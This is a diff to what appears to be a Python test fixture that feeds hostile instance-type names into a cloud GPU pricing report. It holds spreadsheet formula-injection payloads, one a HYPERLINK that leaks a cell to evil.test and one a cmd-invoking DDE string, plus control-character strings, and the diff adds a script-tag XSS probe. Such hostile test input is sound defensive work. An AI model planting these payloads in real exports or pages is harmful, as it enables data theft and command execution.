@@ -21,8 +21,9 @@ FORMULA_SKUS = ('=HYPERLINK("http://evil.test/?leak="&A1,"GT4")', "+1+cmd|' /C c
                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "\uff1d3+3")
 CONTROL_SKU = "GT4\x00\x1b[2J\u202eevil\x85"          # NUL, ESC, RLO, a C1 control
 OUTLIER_SKU = "GT4.A100-80G.ABSURD"                      # 1.50 CNY/h: ~20x below the market
-# 1 Mi characters (3 MiB of UTF-8), the cheapest A100 40GB in Jiangsu: the report shows it cut short
-LONG_SKU = "GT4." + "超长" * (1 << 19)
+# A script element, then 1 Mi characters (3 MiB of UTF-8): the cheapest A100 40GB in Jiangsu, so
+# the report shows it, as text and cut short
+LONG_SKU = "GT4.<script>alert(1)</script>" + "超长" * (1 << 19)
 FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 PLAIN_NEGATIVE = re.compile(r"-[0-9]+(\.[0-9]+)?")
 CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
@@ -40,7 +41,8 @@ def _instance(sku: str, family: str, hour: float) -> dict:
 
 def build_tencent(copy: Path) -> bytes:
     """tencent_cn copied under `copy`, its Nanjing zone answer with the hostile instance types
-    (GT4, an A100 40GB, at Tencent's own price; one with a 1 MB name a little cheaper; and the
+    (GT4, an A100 40GB, at Tencent's own price; one a little cheaper whose 1 MB name starts with
+    a script element; and the
     outlier: a family the card table does not know, whose own text names an A100 80GB); returns
     the body's bytes."""
     shutil.copytree(SNAPSHOT_DIR / "tencent_cn", copy / "tencent_cn")
